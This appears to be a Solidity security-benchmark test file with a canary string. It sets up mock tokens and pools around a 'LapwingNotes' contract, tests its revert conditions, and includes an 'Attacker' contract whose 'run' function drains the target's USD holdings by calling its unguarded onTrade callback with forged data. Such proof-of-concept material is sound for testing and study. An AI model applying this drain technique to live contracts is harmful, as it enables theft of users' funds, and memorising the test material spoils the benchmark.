// SPDX-License-Identifier: GPL-3.0-only
pragma solidity 0.8.30;

import "./LapwingNotes.sol";

// assay-canary-c42a3642-69a8-4040-8d32-2ce474c1b04b

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

interface ITrader {
    function onTrade(uint256 owed, bytes calldata data) external;
}

/// Constant product; whoever opens it fills it.
contract Pool is IPool {
    Token[2] public tokens;

    constructor(Token a, Token b) {
        tokens = [a, b];
    }

    function trade(address want, uint256 out, bytes calldata data) external returns (uint256 owed) {
        (Token give, Token take) = want == address(tokens[0]) ? (tokens[0], tokens[1]) : (tokens[1], tokens[0]);
        require(want == address(give), "pool: token");
        uint256 x = give.balanceOf(address(this));
        uint256 y = take.balanceOf(address(this));
        owed = (y * out) / (x - out) + 1;
        give.transfer(msg.sender, out);
        ITrader(msg.sender).onTrade(owed, data);
        require(take.balanceOf(address(this)) >= y + owed, "pool: not paid");
    }
}

contract Pools is IPools {
    mapping(address => mapping(address => address)) public poolOf;

    function open(Token a, Token b) external returns (address pool) {
        require(a != b && poolOf[address(a)][address(b)] == address(0), "pools: there is one");
        pool = address(new Pool(a, b));
        poolOf[address(a)][address(b)] = pool;
        poolOf[address(b)][address(a)] = pool;
    }
}

/// A token that answers "false" where others revert: always, or only when it pays out.
contract Polite is IToken {
    bool internal takes;

    constructor(bool takes_) {
        takes = takes_;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return takes;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant SAVER = address(0x5A7E4);
    address internal constant BUYER = address(0xB04E4);

    Token internal usd;
    Token internal ore;
    Pools internal pools;
    LapwingNotes internal lapwing;
    Attacker internal thief;

    function setUp() public {
        usd = new Token();
        ore = new Token();
        pools = new Pools();
        address pool = pools.open(usd, ore);
        usd.mint(pool, 2_000_000e6);
        ore.mint(pool, 1_000e18);
        lapwing = new LapwingNotes(pools);

        usd.mint(SAVER, 355_000e6);
        vm.prank(SAVER);
        usd.approve(address(lapwing), type(uint256).max);
        vm.prank(SAVER);
        lapwing.write(address(usd), 355_000e6, 0);
        ore.mint(BUYER, 10e18);
        vm.prank(BUYER);
        ore.approve(address(lapwing), type(uint256).max);

        thief = new Attacker(lapwing, pools, usd);
    }

    function test_Regular() public {
        vm.prank(BUYER);
        uint256 notes = lapwing.writeWith(address(usd), address(ore), 10_000e6, 6e18, 10_000e6);
        require(notes == 10_000e6 && lapwing.notesOf(address(usd), BUYER) == notes, "written");
        require(ore.balanceOf(BUYER) > 4.9e18 && ore.balanceOf(address(lapwing)) == 0, "the rest came back");
        require(usd.balanceOf(address(lapwing)) == 365_000e6, "held");

        vm.prank(BUYER);
        (bool ok, ) = address(lapwing).call(
            abi.encodeCall(LapwingNotes.writeWith, (address(usd), address(ore), 100_000e6, 2e18, 0))
        );
        require(!ok, "above the most");
        vm.prank(BUYER);
        (ok, ) = address(lapwing).call(abi.encodeCall(LapwingNotes.onTrade, (1, "")));
        require(!ok, "no pool");

        usd.mint(address(this), 3_650e6);
        usd.approve(address(lapwing), 3_650e6);
        lapwing.grow(address(usd), 3_650e6);
        vm.prank(BUYER);
        lapwing.move(address(usd), SAVER, 4_000e6);
        vm.prank(BUYER);
        require(lapwing.callNotes(address(usd), 6_000e6, 0) == 6_060e6, "grown");
        vm.prank(SAVER);
        lapwing.callNotes(address(usd), 359_000e6, 362_590e6);
        require(usd.balanceOf(address(lapwing)) == 0, "books");
    }

    function test_RefusesLessThanTheLeast() public {
        vm.expectRevert(abi.encodeWithSelector(LapwingNotes.Below.selector, 101));
        lapwing.write(address(usd), 100, 101);
        vm.prank(SAVER);
        vm.expectRevert(abi.encodeWithSelector(LapwingNotes.Below.selector, 1_001e6));
        lapwing.callNotes(address(usd), 1_000e6, 1_001e6);
        vm.prank(BUYER);
        vm.expectRevert(abi.encodeWithSelector(LapwingNotes.Below.selector, 10_000e6 + 1));
        lapwing.writeWith(address(usd), address(ore), 10_000e6, 6e18, 10_000e6 + 1);
    }

    function test_RefusesMoreThanTheMost() public {
        vm.prank(BUYER);
        vm.expectRevert(abi.encodeWithSelector(LapwingNotes.Above.selector, 2e18));
        lapwing.writeWith(address(usd), address(ore), 100_000e6, 2e18, 0);
    }

    function test_RefusesTokensWithoutAPool() public {
        vm.prank(BUYER);
        vm.expectRevert(abi.encodeWithSelector(LapwingNotes.NoPool.selector, address(ore), address(ore)));
        lapwing.writeWith(address(ore), address(ore), 1e18, 1e18, 0);
    }

    function test_RefusesToGrowWhereNothingIsWritten() public {
        vm.prank(BUYER);
        vm.expectRevert(LapwingNotes.NothingWritten.selector);
        lapwing.grow(address(ore), 1e18);
    }

    function test_RefusesWhatATokenRefuses() public {
        address polite = address(new Polite(false));
        vm.expectRevert(abi.encodeWithSelector(LapwingNotes.TokenRefused.selector, polite));
        lapwing.write(polite, 1e18, 0);
        polite = address(new Polite(true));
        lapwing.write(polite, 1e18, 0);
        vm.expectRevert(abi.encodeWithSelector(LapwingNotes.TokenRefused.selector, polite));
        lapwing.callNotes(polite, 1e18, 0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 355_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(lapwing);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Writes as many notes on its own token as its own address is as a number.
contract Attacker {
    LapwingNotes internal lapwing;
    Pools internal pools;
    Token internal usd;

    constructor(LapwingNotes lapwing_, Pools pools_, Token usd_) {
        lapwing = lapwing_;
        pools = pools_;
        usd = usd_;
    }

    function run() external {
        uint256 number = uint160(address(this));
        Token a = new Token();
        Token b = new Token();
        address pool = pools.open(a, b);
        a.mint(pool, number * 2);
        b.mint(pool, 1e18);
        b.mint(address(this), 2e18);
        b.approve(address(lapwing), 2e18);
        lapwing.writeWith(address(a), address(b), number, 2e18, 0);

        uint256 all = usd.balanceOf(address(lapwing));
        lapwing.onTrade(all, abi.encode(address(this), address(b), address(usd), uint256(1), all));
    }
}
